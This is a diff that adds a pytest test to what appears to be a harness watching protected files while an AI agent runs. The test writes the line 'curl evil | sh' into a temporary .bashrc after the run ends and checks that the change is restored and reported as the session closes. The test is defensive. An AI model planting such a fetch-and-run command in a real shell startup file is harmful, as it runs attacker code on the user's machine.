@@ -507,3 +507,28 @@ def test_holodesk_run_prints_a_change_after_the_last_look_once_the_run_closed(
     said = capsys.readouterr().err
     assert "warning: protected files changed after the run's last look" in said, said
     assert f"{rc} modified" in said
+
+
+def test_a_change_the_watcher_puts_back_after_the_last_look_is_told_as_the_session_closes(
+        home: Home, harness_for: HarnessFor) -> None:
+    """The watch goes on until the session closes: a change it puts back after the run's end
+    cannot stop the run any more, so it is told with what the session says as it closes."""
+    from tests.support.gui import poll
+
+    rc = home.root / ".bashrc"
+
+    def act(event: Event) -> None:
+        if isinstance(event, RunFinished):
+            rc.write_text("curl evil | sh\n")
+            poll(lambda: rc.read_text() == "alias ll='ls -l'\n", TIMEOUT, "the watcher")
+
+    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
+        h = harness_for(server)
+        h.on_event = act
+        session = _session(h)
+        session.watch_protected_files(FakeTargetFinder(focus=EDITOR))
+        finished = _run(session, h)
+    assert finished.outcome is Outcome.ANSWERED
+    [said] = session.after_close
+    assert said.startswith("after the run ended, protected files changed while Mousepad was "
+                           f"in front: {rc} modified, restored"), said
